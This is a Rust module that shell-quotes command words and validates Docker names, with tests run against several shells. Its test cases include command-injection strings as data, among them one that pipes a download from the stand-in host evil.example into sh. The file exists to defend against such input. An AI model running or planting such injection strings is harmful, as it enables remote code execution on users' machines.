//! Commands that a person may paste into a shell. Names in them may be somebody's who
//! wants another command run, so a word of a command is a type of its own, and the only
//! way to print one quotes it.

use std::fmt::{self, Write};

use serde::Serialize;

use crate::text::is_unsafe;

/// One word of a command: printed so that a shell reads exactly this word, and a terminal
/// shows all of it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct ShellWord(String);

impl ShellWord {
    /// A word.
    #[must_use]
    pub fn new(word: impl Into<String>) -> Self {
        Self(word.into())
    }
}

impl fmt::Display for ShellWord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-./:,=+@%".contains(c);
        // `=word` is a path to zsh.
        if !self.0.is_empty() && !self.0.starts_with('=') && self.0.chars().all(is_plain) {
            return f.write_str(&self.0);
        }
        if !self.0.chars().any(is_unsafe) {
            return write!(f, "'{}'", self.0.replace('\'', r"'\''"));
        }
        // Not every shell knows these quotes; with no quote inside, it is one word to all.
        f.write_str("$'")?;
        for c in self.0.chars() {
            match c {
                '\\' => f.write_str(r"\\")?,
                '\'' | '!' => write!(f, "\\x{:02x}", u32::from(c))?,
                _ if !is_unsafe(c) => f.write_char(c)?,
                _ if c.is_ascii() => write!(f, "\\x{:02x}", u32::from(c))?,
                _ => write!(f, "\\U{:08x}", u32::from(c))?,
            }
        }
        f.write_char('\'')
    }
}

/// Words as one line.
pub fn line<'a>(words: impl IntoIterator<Item = &'a ShellWord>) -> String {
    let words: Vec<String> = words.into_iter().map(ToString::to_string).collect();
    words.join(" ")
}

/// A name as Docker takes one for a container, a network or a service; `placeholder` for
/// what it would refuse, which is nobody's name, but may be somebody's text.
#[must_use]
pub fn docker_name<'a>(name: &'a str, placeholder: &'a str) -> &'a str {
    let may_follow = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-');
    let is_name =
        name.starts_with(|c: char| c.is_ascii_alphanumeric()) && name.chars().all(may_follow);
    if is_name { name } else { placeholder }
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use proptest::prelude::*;

    use super::*;

    /// What a shell makes of a line, each word followed by NUL; `None` where this shell is
    /// not on this machine.
    fn read_by(shell: &str, line: &str) -> Option<Vec<u8>> {
        let script = format!("printf '%s\\0' {line}");
        // A command that got through would not be found, and its name be a complaint.
        let output =
            Command::new(shell).args(["-c", &script]).env_clear().env("LC_ALL", "C.UTF-8").output();
        let output = output.ok()?;
        assert!(output.stderr.is_empty(), "{shell}: {line}: {}", output.stderr.escape_ascii());
        Some(output.stdout)
    }

    fn words(words: &[&str]) -> Vec<ShellWord> {
        words.iter().map(|word| ShellWord::new(*word)).collect()
    }

    fn as_read(words: &[&str]) -> Vec<u8> {
        words.iter().flat_map(|word| [word.as_bytes(), b"\0"].concat()).collect()
    }

    #[test]
    fn words_are_quoted_where_they_have_to_be() {
        for (word, shown) in [
            ("-p", "-p"),
            ("127.0.0.1:80:80/udp", "127.0.0.1:80:80/udp"),
            ("published=80,target=80", "published=80,target=80"),
            ("[::1]:80:80", "'[::1]:80:80'"),
            ("", "''"),
            ("=ls", "'=ls'"),
            ("~", "'~'"),
            ("it's $(id)", r"'it'\''s $(id)'"),
            ("a\\b", r"'a\b'"),
            ("x\n'\u{9b}", r"$'x\x0a\x27\U0000009b'"),
        ] {
            assert_eq!(ShellWord::new(word).to_string(), shown);
        }
    }

    #[test]
    fn a_name_that_docker_refuses_is_a_placeholder() {
        for good in ["web", "a.b-c_d", "9"] {
            assert_eq!(docker_name(good, "NETWORK"), good);
        }
        for bad in ["", "-x", ".x", "a b", "x; curl -s evil.example|sh #", "a\n", "é", "$(id)"] {
            assert_eq!(docker_name(bad, "NETWORK"), "NETWORK");
        }
    }

    #[test]
    fn no_shell_runs_a_word() {
        let hostile = [
            "x; nosuch -s evil.example|sh #",
            "$(nosuch)",
            "`nosuch`",
            "it'; nosuch '",
            "\n nosuch \n",
            "\\'; nosuch #\u{1b}",
            "*",
            "~root",
            "a\u{9b}31m\u{202e}';nosuch;'",
            "{a,b}",
            "",
        ];
        let line = line(&words(&hostile));
        assert!(!line.chars().any(is_unsafe), "{line:?}");
        for shell in ["bash", "zsh", "ksh", "sh"] {
            let Some(read) = read_by(shell, &line) else { continue };
            let parts = read.iter().filter(|byte| **byte == 0).count();
            assert_eq!(parts, hostile.len(), "{shell}: {}", read.escape_ascii());
            if shell == "bash" {
                assert_eq!(read, as_read(&hostile), "{}", read.escape_ascii());
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]
        #[test]
        fn a_shell_reads_the_very_words(
            all in prop::collection::vec("[^\0]{0,12}|[ -~]{0,12}|['\\\\\"$`!\n]{0,6}", 1..8),
        ) {
            let all: Vec<&str> = all.iter().map(String::as_str).collect();
            let line = line(&words(&all));
            prop_assert!(!line.chars().any(is_unsafe));
            if let Some(read) = read_by("bash", &line) {
                prop_assert_eq!(read, as_read(&all));
            }
        }
    }
}
